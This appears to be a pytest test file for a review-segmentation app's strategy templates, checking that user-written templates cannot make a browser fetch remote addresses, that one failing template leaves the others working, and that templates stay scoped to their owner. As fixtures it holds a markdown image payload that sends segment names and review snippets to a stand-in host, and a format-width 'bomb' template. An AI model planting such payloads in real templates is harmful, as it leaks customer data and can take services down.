"""Templates cannot hurt the reader (issue 27): nothing they write makes a browser fetch an address,
one failing template never blanks the others, aspect names reach the templates unescaped."""
from __future__ import annotations

import copy

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from segcore.strategy.report import report_html, report_markdown
from segcore.strategy.safe_markdown import inert_markdown, md_escape
from segcore.strategy.suggest import _trial_profiles, customer_actions, load_templates, render_strategies
from segcore.strategy.template_meta import check_for_saving, check_template

LEAK = "![ ](http://127.0.0.1:9911/leak?n={{seg.name|urlencode}}&ex={{seg.examples[0][:60]|urlencode}})"
# passed the save check before (its condition holds on the made-up segments too), then blanked every strategy
BOMB = '{% if seg.n_reviews > 100 %}{{ ("%(a)900000000s" % {"a":1})|length }}{% endif %}'


def _fetching(markdown: str) -> list[str]:
    """What a CommonMark + GFM-table renderer would turn into an image, a link or HTML."""
    found, stack = [], list(MarkdownIt("commonmark").enable("table").parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in ("image", "link_open", "html_inline", "html_block"):
            found.append(token.type)
        stack.extend(token.children or ())
    return found


def _profile(seg: int, **changes) -> dict:
    profile = copy.deepcopy(_trial_profiles()[1])
    profile.update(segment_id=seg, **changes)
    return profile


@pytest.mark.parametrize("text", [
    "![p](http://host/p.png)", "[site](https://host/)", "<http://host/>", "<img src=http://host/p.png>",
    "![a][r]\n\n[r]: http://host/p.png", "see http://host/x and www.host.com", "mail me: a@host.com",
    r"\![p](http://host/p.png)", r"\\![p](http://host/p.png)", "[![p](http://h/p.png)](http://h/)",
    "`code` ![p](http://host/p.png) `more`", "- item ![p](//host/p.png)\n- [x]: http://host/",
])
def test_inert_markdown_leaves_no_image_link_or_html(text):
    out = inert_markdown(text)
    html = MarkdownIt("commonmark").render(out)
    assert _fetching(out) == [] and "href" not in html and "<img" not in html
    assert inert_markdown(out) == out  # made inert once is inert


def test_inert_markdown_keeps_the_formatting():
    text = "## Title\n\n**bold** and _it_, 30% off\n\n- one\n- two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert inert_markdown(text) == text


def test_a_remote_image_template_renders_as_text_on_the_page_and_in_the_reports():
    """Issue 27: alice's template sent bob's segment names and review snippets to her address."""
    templates = {"99_leak": LEAK, **load_templates()}
    profiles = {1: _profile(1, name="Coffee fans")}
    shown = render_strategies(profiles, templates=templates, page=True)
    text = next(i["text"] for i in shown[1] if i["template"] == "99_leak")
    assert _fetching(text) == [] and "127.0.0.1" in text  # shown, as text
    raw = render_strategies(profiles, templates=templates)  # the exports' values
    report = report_markdown(profiles, raw)
    assert _fetching(report) == [] and "127.0.0.1" in report
    page = report_html(report)
    assert "<img" not in page and "<a " not in page and "127.0.0.1" in page
    preview = check_template(LEAK, name="99_leak", profiles=profiles)  # the editor's preview
    assert _fetching(preview[1]) == []


def test_data_with_markdown_is_text_on_the_page():
    name = "![p](http://host/p.png) **VIP**"
    shown = render_strategies({1: _profile(1, name=name)}, templates={"t": "## {{ seg.name }}"}, page=True)
    assert shown[1][0]["text"] == "## " + md_escape(name)
    raw = render_strategies({1: _profile(1, name=name)}, templates={"t": "## {{ seg.name }}"})
    assert raw[1][0]["text"] == "## " + name  # exports keep the value as it is


def test_one_failing_template_leaves_the_others_and_the_campaign_actions():
    """Issue 27: the width bomb blanked every strategy and the actions fell back to "Monitor"."""
    templates = {"00_bomb": BOMB, **load_templates()}
    profiles = {1: _profile(1)}
    with pytest.raises(Exception, match="Template '00_bomb' failed"):
        check_for_saving(BOMB, name="00_bomb", profiles=profiles)  # refused at save now
    errors: list = []
    strategies = render_strategies(profiles, templates=templates, errors=errors)
    shipped = render_strategies(profiles, templates=load_templates())
    assert [str(e) for e in errors] == [
        "Template '00_bomb' failed for segment 1 (line 1): format width 900000000 is larger than 1,000; fix or reset it."]
    assert strategies == shipped and strategies[1]  # the others, unchanged
    customers = pd.DataFrame({"segment_id": [1, 1], "share_negative": [0.0, 0.8], "share_neutral": [0.0, 0.0]})
    actions = customer_actions(customers, strategies)["action"].tolist()
    assert "Monitor" not in actions and actions == customer_actions(customers, shipped)["action"].tolist()


@pytest.mark.parametrize("aspect", ["after-sales", "size_fit", "price (per kg)"])
def test_aspect_names_with_markdown_characters(aspect):
    """Issue 27: 'after-sales' (and the shipped 'size_fit') broke 07_aspect_recovery on the page."""
    profile = _profile(1, aspects={aspect: {"share": 0.4, "n_reviews": 60, "positive": 0.2, "negative": 0.7}},
                       negative_aspects=[{"name": aspect, "negative_mention_share": 0.5, "n_reviews": 60}])
    profile["facts"] = {**profile["facts"], "complaints": []}  # the tagger's aspect decides, not a typed fact
    errors: list = []
    texts = {}
    for language in ("en", "zh"):
        shown = render_strategies({1: profile}, templates=load_templates(language=language), page=True, errors=errors)
        texts[language] = next(i["text"] for i in shown[1] if i["template"] == "07_aspect_recovery")
    assert errors == []
    assert aspect.replace("_", "/") in MarkdownIt("commonmark").render(texts["en"])  # shown as written
    if aspect == "size_fit":  # its own play, not the generic one: the condition saw the raw name
        assert texts["en"].startswith("## Size guidance")


# --- on the page: whose templates apply -------------------------------------------------------

@pytest.fixture
def cli_run(models_dir, tiny_run):
    """A finished run made outside the app (no owner): every person may open it."""
    import shutil

    from segcore.services.runs import write_status

    run = models_dir / "20260101-000000-tiny"
    shutil.copytree(tiny_run.parent, run)
    write_status(run, {"status": "done", "created": "2026-01-01T00:00:00", "input_file": "small_reviews.csv"})
    return run


def _person(token: str, *, sso: str | None = None, admins: list[str] | None = None):
    """A session on the Strategies page: a browser, or an SSO user (verified e-mail)."""
    from conftest import ROOT
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.session_state["ws_token"] = token
    if sso:
        at.secrets["auth"] = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "x" * 32,
                              "client_id": "id", "client_secret": "secret",
                              "server_metadata_url": "https://accounts.example.com/.well-known/openid-configuration"}
        at.secrets["admins"] = admins or []
        at.user = {"is_logged_in": True, "email": sso, "email_verified": True, "sub": sso}
    at.run()
    at.switch_page("pages/strategies.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _save_expert(at, name: str, source: str) -> None:
    at.radio(key="tpl_pick").set_value(name)
    at.run()
    at.toggle(key="tpl_expert").set_value(True)
    at.run()
    at.text_area(key=f"tpl_{name}_0_source").set_value(source)
    at.run()
    next(b for b in at.button if b.label == "Save template").click()
    at.run()
    assert not at.exception, [e.value for e in at.exception]


def _page_text(at) -> str:
    return "\n".join(m.value for m in at.markdown)


def test_a_persons_template_applies_to_them_alone_and_fetches_nothing(cli_run, models_dir):
    """Issue 27: alice's template with a remote image ran for bob and sent his segment names out."""
    alice, bob = _person("alice-browser-token-0001"), _person("bob-browser-token-00001")
    leak = "{% if seg.size > 0 %}\n## Leak\n" + LEAK + "\n{% endif %}"
    _save_expert(alice, "06_inventory_hints", leak)
    mine = _page_text(alice.run())
    assert "127.0.0.1" in mine and not _fetching(mine)  # shown to alice as text, fetches nothing
    theirs = _page_text(bob.run())
    assert "127.0.0.1" not in theirs and "Inventory hints" in theirs  # bob still has the shipped one
    assert not (models_dir / ".data" / "templates").exists()  # nothing saved for the team


def test_team_templates_only_by_an_admin(cli_run, models_dir):
    admin = _person("dave-browser-token-00001", sso="dave@example.com", admins=["dave@example.com"])
    member = _person("erin-browser-token-00001", sso="erin@example.com", admins=["dave@example.com"])
    assert not any(c.key == "tpl_team" for c in member.checkbox)  # no team option for a member
    admin.checkbox(key="tpl_team").check()
    admin.run()
    _save_expert(admin, "06_inventory_hints", "{% if seg.size > 0 %}\n## Team play\nFor everyone.\n{% endif %}")
    assert (models_dir / ".data" / "templates" / "06_inventory_hints.md.j2").exists()
    assert "Team play" in _page_text(member.run())  # the team's template reaches the members
    from segcore.services.owners import Owner
    from segcore.services.templates import TemplateStore

    with pytest.raises(Exception, match="Only an admin saves templates for the whole team"):
        TemplateStore(models_dir / ".data").save(Owner.sso("erin@example.com"), "x", "## x", team=True)


def test_a_failing_saved_template_shows_its_error_and_leaves_the_others(cli_run, models_dir):
    """Issue 27: one template over the limits blanked every strategy of the page."""
    from conftest import browser_workspace

    from segcore.strategy.template_meta import save_template

    at = _person("tests-one-browser-token-0001")
    save_template(browser_workspace(models_dir) / "templates", "00_bomb", BOMB)  # saved before the limits held
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and errors[0].startswith("Template '00_bomb' failed") and "larger than 1,000" in errors[0]
    cards = [m.value for m in at.markdown if m.value.startswith("####")]
    assert cards and "Complaint recovery" in _page_text(at)  # the others still apply


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_page_shows_the_words_the_exports_hold(language):
    """Escaping on the page changes how a value is written, never what the reader sees: every
    shipped template on every made-up segment (aspects with '-' and '_' included) reads the same."""
    import html
    import re

    profiles = copy.deepcopy(_trial_profiles())
    profiles[1]["negative_aspects"] += [{"name": "after-sales", "negative_mention_share": 0.2, "n_reviews": 9},
                                        {"name": "size_fit", "negative_mention_share": 0.1, "n_reviews": 5}]
    templates = load_templates(language=language)
    shown = render_strategies(profiles, templates=templates, page=True)
    raw = render_strategies(profiles, templates=templates)

    def words(text: str) -> str:
        return html.unescape(re.sub(r"<[^>]+>", "", MarkdownIt("commonmark").enable("table").render(text)))

    assert [[i["template"] for i in items] for items in shown.values()] == \
        [[i["template"] for i in items] for items in raw.values()]
    for seg in raw:
        for page_item, raw_item in zip(shown[seg], raw[seg]):
            assert words(page_item["text"]) == words(raw_item["text"]), (seg, raw_item["template"])
